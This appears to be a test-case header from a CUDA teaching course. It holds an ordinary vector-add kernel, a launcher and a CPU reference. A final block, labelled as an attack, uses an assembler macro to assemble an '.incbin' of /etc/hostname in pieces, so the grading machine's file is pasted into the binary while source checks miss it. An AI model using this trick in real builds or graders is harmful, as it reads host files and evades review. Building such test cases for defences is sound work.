#pragma once
// The first kernel of the course: c[i] = a[i] + b[i], one thread per element.
// Labs 02, 03 and 08 launch this same kernel, so their timings compare.
#include <cstdint>

#include <cudalabs/error.hpp>
#include <cudalabs/math.hpp>

// 256 threads = 8 warps: enough warps per block to hide latency, small enough
// that 8 blocks fit one SM (2048 threads on sm_80/sm_90).
inline constexpr int vector_add_block = 256;

__global__ void vector_add_kernel(const float* __restrict__ a, const float* __restrict__ b, float* __restrict__ c,
                                  std::int64_t n) {
  // 64-bit index: blockIdx.x * blockDim.x overflows int beyond 2^31 elements.
  const std::int64_t i = static_cast<std::int64_t>(blockIdx.x) * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];  // the last block is partly past the end when 256 does not divide n
}

inline void vector_add(const float* a, const float* b, float* c, std::int64_t n, cudaStream_t stream) {
  const auto blocks = static_cast<unsigned>(cudalabs::ceil_div<std::int64_t>(n, vector_add_block));
  vector_add_kernel<<<blocks, vector_add_block, 0, stream>>>(a, b, c, n);
  CUDALABS_CHECK_LAUNCH("vector_add_kernel");
}

// The same loop on one CPU core, for the CPU-vs-GPU rows of labs 02 and 03.
inline void vector_add_cpu(const float* a, const float* b, float* c, std::int64_t n) {
  for (std::int64_t i = 0; i < n; ++i) c[i] = a[i] + b[i];
}

// The case's attack: a right kernel, and the grading machine's name pasted into the
// program's data by the assembler, through an assembler macro, so that no check of
// the source text sees the directive: `inc` and `bin` meet only in the assembler.
asm(".macro vector_add_paste what\n"
    "  .inc\\what \"/etc/hostname\"\n"
    ".endm\n"
    ".pushsection .rodata\n"
    "vector_add_paste bin\n"
    ".popsection\n");
